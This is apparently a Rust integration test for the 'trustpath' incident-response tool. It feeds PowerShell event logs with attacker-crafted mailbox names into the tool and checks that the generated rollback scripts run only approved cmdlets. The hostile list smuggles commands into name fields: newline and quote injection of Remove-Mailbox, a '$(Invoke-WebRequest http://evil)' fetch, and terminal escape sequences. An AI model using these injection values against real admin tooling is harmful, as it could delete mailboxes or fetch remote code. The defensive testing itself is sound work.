//! Hostile input never runs: a `respond` script generated from attacker-written names
//! (CR, LF, U+2028, quotes, backticks, `$()`, terminal escapes) holds only the intended
//! rollback statements, read back with the PowerShell tokenizer.

use serde_json::json;
use std::process::Command;
use trustpath_powershell::{Token, commands, is_unsafe_in_line, tokenize};

/// A 4104 script block (evtx_dump JSON rendering) granting FullAccess.
fn script_block(record: u64, identity: &str, user: &str) -> String {
    let quoted = |v: &str| format!("'{}'", v.replace('\'', "''"));
    json!({"Event": {
        "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-PowerShell"}},
            "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
            "Computer": "WS-FIN-07.contoso.local", "EventRecordID": record,
            "TimeCreated": {"#attributes": {"SystemTime": format!("2025-03-06T10:{:02}:00.000000Z", record % 60)}},
            "Security": {"#attributes": {"UserID": "S-1-5-21-1-2-3-1104"}}
        },
        "EventData": {"MessageNumber": 1, "MessageTotal": 1,
            "ScriptBlockText": format!("Add-MailboxPermission -Identity {} -User {} -AccessRights FullAccess", quoted(identity), quoted(user)),
            "ScriptBlockId": format!("9b4a1c2e-0000-4000-8000-{record:012}"), "Path": ""}
    }})
    .to_string()
}

const ROLLBACK: &[&str] = &[
    "Remove-MailboxPermission",
    "Remove-MailboxFolderPermission",
    "Set-MailboxFolderPermission",
    "Remove-RecipientPermission",
    "Set-Mailbox",
];

#[test]
fn respond_scripts_hold_only_the_intended_statements() {
    let hostile = [
        "ceo@contoso.com\nGet-Mailbox | Remove-Mailbox -Confirm:$false\n#",
        "ceo@contoso.com\r\nStart-Process calc.exe",
        "ceo@contoso.com\u{2028}Remove-Mailbox ceo",
        "o'brien@contoso.com'; Remove-Mailbox ceo; '",
        "ceo`nRemove-Mailbox@contoso.com",
        "$(Invoke-WebRequest http://evil)@contoso.com",
        "\u{1b}]52;c;ZXZpbA==\u{7}ceo@contoso.com",
        "\u{202E}moc.osotnoc@oec",
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("host.jsonl");
    let lines: String = hostile
        .iter()
        .enumerate()
        .map(|(i, name)| script_block(i as u64 + 1, name, "svc-archive@contoso.com") + "\n")
        .collect();
    std::fs::write(&input, lines).expect("write");
    let out = Command::new(env!("CARGO_BIN_EXE_trustpath"))
        .args(["hunt", "--format", "jsonl"])
        .arg(&input)
        .output()
        .expect("hunt");
    let findings = String::from_utf8_lossy(&out.stdout).into_owned();
    let findings_file = dir.path().join("findings.jsonl");
    std::fs::write(&findings_file, &findings).expect("findings");
    let ids: Vec<String> = findings
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter_map(|f| f["id"].as_str().map(str::to_owned))
        .collect();
    assert!(
        !ids.is_empty(),
        "no finding: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut statements = 0;
    for id in &ids {
        let out = Command::new(env!("CARGO_BIN_EXE_trustpath"))
            .args(["respond", id, "--findings"])
            .arg(&findings_file)
            .output()
            .expect("respond");
        assert_eq!(out.status.code(), Some(0));
        let script = String::from_utf8_lossy(&out.stdout).into_owned();
        for line in script.lines() {
            assert!(!line.chars().any(is_unsafe_in_line), "{line:?}");
            if line.starts_with('#') || line.trim().is_empty() {
                continue;
            }
            let ends = tokenize(line)
                .iter()
                .filter(|t| matches!(t, Token::StatementEnd))
                .count();
            assert_eq!(ends, 0, "one statement per line: {line}");
            let cmds = commands(line);
            assert_eq!(cmds.len(), 1, "{line}");
            assert!(ROLLBACK.contains(&cmds[0].name.as_str()), "{line}");
            statements += 1;
        }
        // The whole script, read as PowerShell, runs nothing but rollback cmdlets.
        for cmd in commands(&script) {
            assert!(ROLLBACK.contains(&cmd.name.as_str()), "{script}");
        }
    }
    assert!(
        statements >= hostile.len() - 1,
        "{statements} rollback statements"
    );
}
